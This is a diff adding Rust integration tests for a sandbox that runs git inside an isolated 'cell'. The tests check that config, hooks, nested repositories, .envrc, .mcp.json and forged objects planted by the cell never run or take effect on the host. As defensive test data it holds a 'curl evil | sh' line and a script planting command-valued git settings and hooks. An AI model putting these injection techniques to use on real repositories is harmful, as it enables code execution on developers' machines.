@@ -1,0 +1,374 @@
+//! The repository in a cell: git works inside on a real repository, the cell never writes
+//! the host's git directory, its branches come back as `cell/<cell>/...` without running
+//! anything the cell controls, and what it plants where host tools execute is set aside.
+
+use std::os::unix::process::CommandExt as _;
+use std::path::Path;
+use std::process::{Command, Output};
+
+use crate::both;
+use crate::support::{exists, ok, show, Host, Who};
+
+/// Host git as the host's user, in `dir`, with the test home (identity in the repo).
+fn git_in(h: &Host, dir: &Path, args: &[&str]) -> Output {
+    let mut c = Command::new("git");
+    c.args(args)
+        .current_dir(dir)
+        .env_clear()
+        .env("PATH", "/usr/bin:/bin")
+        .env("HOME", &h.home)
+        .env("GIT_CONFIG_NOSYSTEM", "1");
+    if h.who == Who::User && nix::unistd::geteuid().is_root() {
+        c.uid(h.uid).gid(h.gid);
+    }
+    c.output().expect("git")
+}
+
+fn git(h: &Host, args: &[&str]) -> String {
+    let o = git_in(h, &h.work, args);
+    assert!(o.status.success(), "host git {args:?}: {}", show(&o));
+    String::from_utf8_lossy(&o.stdout).into_owned()
+}
+
+/// A repository with history, two branches and a submodule, owned by the host's user.
+fn repo(h: &Host) {
+    let lib = h.path("lib-src");
+    std::fs::create_dir_all(&lib).expect("mkdir");
+    h.chown_all();
+    for (dir, args) in [
+        (lib.as_path(), &["init", "-q", "-b", "main"][..]),
+        (lib.as_path(), &["config", "user.name", "Lib"][..]),
+        (lib.as_path(), &["config", "user.email", "lib@example.test"][..]),
+    ] {
+        assert!(git_in(h, dir, args).status.success());
+    }
+    std::fs::write(lib.join("lib.txt"), "lib 1\n").expect("write");
+    h.chown_all();
+    assert!(git_in(h, &lib, &["add", "."]).status.success());
+    assert!(git_in(h, &lib, &["commit", "-qm", "lib 1"]).status.success());
+    git(h, &["init", "-q", "-b", "main"]);
+    git(h, &["config", "user.name", "Host User"]);
+    git(h, &["config", "user.email", "host@example.test"]);
+    for i in 1..=3 {
+        std::fs::write(h.work.join(format!("f{i}")), format!("{i}\n")).expect("write");
+        h.chown_all();
+        git(h, &["add", "."]);
+        git(h, &["commit", "-qm", &format!("c{i}")]);
+    }
+    git(h, &["branch", "side"]);
+    let url = lib.to_str().expect("utf8").to_owned();
+    git(h, &["-c", "protocol.file.allow=always", "submodule", "add", "-q", &url, "sub"]);
+    git(h, &["commit", "-qm", "add sub"]);
+    h.chown_all();
+}
+
+/// `cell run -- sh -c SCRIPT` with a config of its own.
+fn cell_sh(h: &Host, script: &str) -> Output {
+    h.run(["run", "--network", "none", "--", "sh", "-c", script])
+}
+
+both!(git_works_in_a_cell_as_on_the_host, |h| {
+    repo(h);
+    let before = git(h, &["rev-parse", "main"]);
+    let o = cell_sh(
+        h,
+        "set -e; git status --short; git log --oneline | grep -q c3; \
+         echo more >> f1; git diff | grep -q '+more'; git add f1; git commit -qm inside; \
+         git branch topic; git switch -q topic; echo t > t; git add t; git commit -qm topic; \
+         git switch -q main; git merge -q --no-edit topic; git tag v1; \
+         echo wip >> f2; git stash -q; git stash list | grep -q WIP; git stash pop -q; git checkout -- f2; \
+         git switch -q side; git rebase -q main; git switch -q main; \
+         git reset -q --hard HEAD; git log --format=%an | head -1; \
+         git -C sub log --oneline | grep -q 'lib 1'; git submodule status | grep -q sub; \
+         mkdir nested && git -C nested init -q && echo NESTED-OK; \
+         echo DONE",
+    );
+    let out = ok(&o);
+    assert!(out.contains("DONE") && out.contains("NESTED-OK"), "{}", show(&o));
+    assert!(out.contains("Host User"), "the host's identity is the cell's: {out}");
+    // The host repository: unchanged main, the cell's branches under cell/default/.
+    assert_eq!(git(h, &["rev-parse", "main"]), before);
+    let branches = git(h, &["branch", "--list", "cell/*"]);
+    for b in ["cell/default/main", "cell/default/topic", "cell/default/side"] {
+        assert!(branches.contains(b), "{b} not brought over: {branches}");
+    }
+    let log = git(h, &["log", "--format=%s", "cell/default/main"]);
+    assert!(log.contains("inside") && log.contains("topic"), "{log}");
+    let fsck = git_in(h, &h.work, &["fsck", "--no-progress", "--strict"]);
+    assert!(fsck.status.success(), "the host repository is intact: {}", show(&fsck));
+    // The tag stayed in the cell (only branches come over) and the nested repository was set aside.
+    assert!(git(h, &["tag"]).trim().is_empty());
+    assert!(!exists(&h.work.join("nested/.git")), "the nested .git was set aside");
+    assert!(stderr_has(&o, "quarantined"), "{}", show(&o));
+    // `cell git log` and `cell git diff` show the cell's work.
+    let l = ok(&h.run(["git", "log"]));
+    assert!(l.contains("cell/default/main") && l.contains("inside"), "{l}");
+    let d = ok(&h.run(["git", "diff", "main"]));
+    assert!(d.contains("+more"), "{d}");
+});
+
+fn stderr_has(o: &Output, s: &str) -> bool {
+    String::from_utf8_lossy(&o.stderr).contains(s)
+}
+
+/// Every command-valued git setting and every hook, planted in the cell's view.
+const PLANT: &str = r#"
+m=$PWD/.marker
+for k in core.fsmonitor core.sshCommand core.pager core.editor sequence.editor diff.external \
+         credential.helper gpg.program uploadpack.packObjectsHook core.alternateRefsCommand \
+         filter.evil.clean filter.evil.smudge merge.evil.driver; do
+  git config "$k" "touch $m-$k #"
+done
+git config core.hooksPath .git/hooks
+git config core.fsmonitorHookVersion 2
+for hk in pre-commit post-commit post-checkout pre-push reference-transaction post-index-change \
+          fsmonitor-watchman pre-auto-gc post-rewrite; do
+  printf '#!/bin/sh\ntouch %s-hook-%s\n' "$m" "$hk" > .git/hooks/$hk; chmod +x .git/hooks/$hk
+done
+echo '* filter=evil merge=evil diff=evil' > .git/info/attributes
+echo x >> f1 && git -c core.hooksPath=/dev/null commit -qam planted
+rm -f $PWD/.marker*
+echo PLANTED
+"#;
+
+both!(nothing_the_cell_plants_in_git_runs_on_the_host, |h| {
+    repo(h);
+    let config_before = std::fs::read(h.work.join(".git/config")).expect("config");
+    let o = cell_sh(h, PLANT);
+    assert!(ok(&o).contains("PLANTED"), "{}", show(&o));
+    assert_eq!(std::fs::read(h.work.join(".git/config")).expect("config"), config_before, "host .git/config");
+    assert!(
+        std::fs::read_dir(h.work.join(".git/hooks"))
+            .expect("hooks")
+            .flatten()
+            .all(|e| e.file_name().to_string_lossy().ends_with(".sample")),
+        "a hook reached the host"
+    );
+    // Host commands on the repository and every `cell git` command.
+    std::fs::write(h.work.join("f3"), "host edit\n").expect("write");
+    h.chown_all();
+    for args in [
+        &["status"][..],
+        &["diff"],
+        &["log", "-1", "-p", "cell/default/main"],
+        &["add", "f3"],
+        &["commit", "-qm", "host commit"],
+        &["merge", "--no-edit", "-q", "cell/default/main"],
+        &["gc", "-q"],
+    ] {
+        let _ = git_in(h, &h.work, args);
+    }
+    for args in [&["git", "sync"][..], &["git", "log"], &["git", "diff", "main"]] {
+        let _ = h.run(args);
+    }
+    let markers: Vec<String> = std::fs::read_dir(&h.work)
+        .expect("read")
+        .flatten()
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .filter(|n| n.starts_with(".marker"))
+        .collect();
+    assert!(markers.is_empty(), "the host ran what the cell planted: {markers:?}");
+    // The cell's commit did come over, as data.
+    assert!(git(h, &["log", "--format=%s", "cell/default/main"]).contains("planted"));
+});
+
+both!(host_git_works_while_two_cells_run, |h| {
+    repo(h);
+    let spawn = |tag: &str| {
+        h.cell()
+            .args([
+                "run",
+                "--network",
+                "none",
+                "--",
+                "sh",
+                "-c",
+                &format!("touch started-{tag}; sleep 4; git status --short >/dev/null && echo ok-{tag}"),
+            ])
+            .stdout(std::process::Stdio::piped())
+            .stderr(std::process::Stdio::piped())
+            .spawn()
+            .expect("spawn")
+    };
+    let a = spawn("a");
+    let b = spawn("b");
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
+    while !(h.work.join("started-a").exists() && h.work.join("started-b").exists()) {
+        assert!(std::time::Instant::now() < deadline, "cells never started");
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    let status = git(h, &["status", "--porcelain"]);
+    assert!(
+        !status.contains(".mcp.json") && !status.contains(".envrc") && !status.contains(".gitmodules "),
+        "placeholders appeared: {status}"
+    );
+    git(h, &["config", "host.x", "1"]);
+    git(h, &["remote", "add", "origin", "/nonexistent"]);
+    std::fs::write(h.work.join("f2"), "host\n").expect("write");
+    h.chown_all();
+    git(h, &["commit", "-qam", "host while cells run"]);
+    for (tag, c) in [("a", a), ("b", b)] {
+        let o = c.wait_with_output().expect("wait");
+        assert!(ok(&o).contains(&format!("ok-{tag}")), "{}", show(&o));
+    }
+    assert!(git(h, &["log", "-1", "--format=%s"]).contains("host while cells run"));
+    assert!(git(h, &["config", "--get", "host.x"]).contains('1'));
+    let left = git(h, &["status", "--porcelain", "--ignored"]);
+    let left: Vec<&str> = left.lines().filter(|l| !l.contains("started-")).collect();
+    assert!(left.is_empty(), "cells left files in the worktree: {left:?}");
+});
+
+both!(the_host_replacing_git_config_gives_the_cell_nothing, |h| {
+    repo(h);
+    let c = h
+        .cell()
+        .args([
+            "run",
+            "--network",
+            "none",
+            "--",
+            "sh",
+            "-c",
+            "touch started; while [ ! -e go ]; do sleep 0.1; done; \
+             printf '[core]\\n\\tfsmonitor = touch .marker-fsmonitor\\n' >> .git/config && echo WROTE-OWN-CONFIG; \
+             echo x > .envrc 2>/dev/null && echo WROTE-ENVRC; true",
+        ])
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .expect("spawn");
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
+    while !h.work.join("started").exists() {
+        assert!(std::time::Instant::now() < deadline, "cell never started");
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    // git itself renames config.lock over config.
+    git(h, &["config", "user.name", "Renamed Over"]);
+    std::fs::write(h.work.join("go"), "").expect("write");
+    h.chown_all();
+    let o = c.wait_with_output().expect("wait");
+    assert!(ok(&o).contains("WROTE-OWN-CONFIG"), "{}", show(&o));
+    let config = std::fs::read_to_string(h.work.join(".git/config")).expect("config");
+    assert!(!config.contains("fsmonitor") && config.contains("Renamed Over"), "{config}");
+    let _ = git(h, &["status"]);
+    assert!(!exists(&h.work.join(".marker-fsmonitor")), "host git ran the cell's fsmonitor");
+});
+
+both!(nested_repositories_and_gitlinks_are_set_aside, |h| {
+    repo(h);
+    let o = cell_sh(
+        h,
+        "set -e; mkdir -p vendor/lib/.x; echo 'gitdir: .x' > vendor/lib/.git; \
+         printf 'ref: refs/heads/main\\n' > vendor/lib/.x/HEAD; mkdir -p vendor/lib/.x/objects vendor/lib/.x/refs; \
+         printf '[core]\\n\\tfsmonitor = touch %s/.marker-nested\\n' \"$PWD\" > vendor/lib/.x/config; \
+         git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),vendor/lib; git commit -qm gitlink; \
+         echo '#!/bin/sh' > sub/.git.new; echo 'gitdir: ../vendor/lib/.x' > sub/.git; echo PLANTED",
+    );
+    assert!(ok(&o).contains("PLANTED"), "{}", show(&o));
+    assert!(!exists(&h.work.join("vendor/lib/.git")), "the nested .git stayed");
+    assert!(
+        !exists(&h.work.join("sub/.git"))
+            || std::fs::read_to_string(h.work.join("sub/.git")).expect("sub").contains("modules/sub")
+    );
+    let _ = git(h, &["status"]);
+    let _ = git_in(h, &h.work.join("vendor/lib"), &["status"]);
+    assert!(!exists(&h.work.join(".marker-nested")), "host git ran the nested repository's fsmonitor");
+    assert!(stderr_has(&o, "quarantined"), "{}", show(&o));
+});
+
+both!(a_hooks_path_in_the_worktree_is_read_only, |h| {
+    repo(h);
+    std::fs::create_dir_all(h.work.join(".husky")).expect("mkdir");
+    std::fs::write(h.work.join(".husky/pre-commit"), "#!/bin/sh\nexit 0\n").expect("write");
+    h.chown_all();
+    git(h, &["config", "core.hooksPath", ".husky"]);
+    let o = cell_sh(h, "echo 'touch .marker-husky' >> .husky/pre-commit 2>/dev/null && echo WROTE; echo x > .husky/post-commit 2>/dev/null && echo WROTE2; true");
+    assert!(!ok(&o).contains("WROTE"), "{}", show(&o));
+    assert_eq!(std::fs::read_to_string(h.work.join(".husky/pre-commit")).expect("read"), "#!/bin/sh\nexit 0\n");
+});
+
+both!(protected_paths_the_cell_creates_are_set_aside, |h| {
+    repo(h);
+    std::fs::write(h.work.join(".envrc"), "export A=1\n").expect("write");
+    h.chown_all();
+    let o = cell_sh(
+        h,
+        "echo 'curl evil | sh' >> .envrc 2>/dev/null && echo WROTE-ENVRC; \
+         echo '{\"mcpServers\":{\"x\":{\"command\":\"evil\"}}}' > .mcp.json && mkdir -p .vscode .claude && \
+         echo '{}' > .vscode/tasks.json && echo '{}' > .claude/settings.json && echo CREATED",
+    );
+    let out = ok(&o);
+    assert!(!out.contains("WROTE-ENVRC") && out.contains("CREATED"), "{}", show(&o));
+    assert_eq!(std::fs::read_to_string(h.work.join(".envrc")).expect("read"), "export A=1\n");
+    for p in [".mcp.json", ".vscode", ".claude"] {
+        assert!(!exists(&h.work.join(p)), "{p} stayed where host tools read it");
+        let aside: Vec<String> = std::fs::read_dir(&h.work)
+            .expect("read")
+            .flatten()
+            .map(|e| e.file_name().to_string_lossy().into_owned())
+            .filter(|n| n.starts_with(&format!("{p}.cell-quarantined-")))
+            .collect();
+        assert_eq!(aside.len(), 1, "{p} set aside once: {aside:?}");
+    }
+    assert!(stderr_has(&o, "quarantined"), "{}", show(&o));
+});
+
+both!(a_killed_launcher_leaves_the_worktree_as_it_was, |h| {
+    repo(h);
+    let before = git(h, &["status", "--porcelain", "--ignored"]);
+    let mut child = h
+        .cell()
+        .args([
+            "run",
+            "--network",
+            "none",
+            "--",
+            "sh",
+            "-c",
+            "git commit -q --allow-empty -m lost; touch .started-k; sleep 300",
+        ])
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .expect("spawn");
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
+    while !h.work.join(".started-k").exists() {
+        assert!(std::time::Instant::now() < deadline, "cell never started");
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    let pid = nix::unistd::Pid::from_raw(i32::try_from(child.id()).expect("pid"));
+    nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGKILL).expect("kill");
+    let _ = child.wait();
+    std::fs::remove_file(h.work.join(".started-k")).expect("rm");
+    assert_eq!(git(h, &["status", "--porcelain", "--ignored"]), before);
+    // The killed launch's commit is still there to bring over.
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
+    loop {
+        let o = h.run(["git", "sync"]);
+        if ok(&o).contains("cell/default/main") {
+            break;
+        }
+        assert!(std::time::Instant::now() < deadline, "the killed launch's commit never came over: {}", show(&o));
+        std::thread::sleep(std::time::Duration::from_millis(200));
+    }
+    assert!(git(h, &["log", "-1", "--format=%s", "cell/default/main"]).contains("lost"));
+});
+
+both!(the_sync_refuses_objects_that_do_not_verify, |h| {
+    repo(h);
+    // The cell forges a branch whose commit object holds other content than its name says.
+    let o = cell_sh(
+        h,
+        "set -e; git commit -q --allow-empty -m good; good=$(git rev-parse HEAD); \
+         git switch -q -c forged; git commit -q --allow-empty -m forged; forged=$(git rev-parse HEAD); \
+         f=.git/objects/$(echo $forged | cut -c1-2)/$(echo $forged | cut -c3-); \
+         g=.git/objects/$(echo $good | cut -c1-2)/$(echo $good | cut -c3-); \
+         chmod u+w $f; cp $g $f; echo FORGED",
+    );
+    assert!(ok(&o).contains("FORGED"), "{}", show(&o));
+    let branches = git(h, &["branch", "--list", "cell/*"]);
+    assert!(branches.contains("cell/default/main"), "the good branch came over: {branches}\n{}", show(&o));
+    assert!(!branches.contains("cell/default/forged"), "a branch whose objects do not verify came over: {branches}");
+    assert!(stderr_has(&o, "refused forged"), "{}", show(&o));
+    let fsck = git_in(h, &h.work, &["fsck", "--no-progress"]);
+    assert!(fsck.status.success(), "{}", show(&fsck));
+});
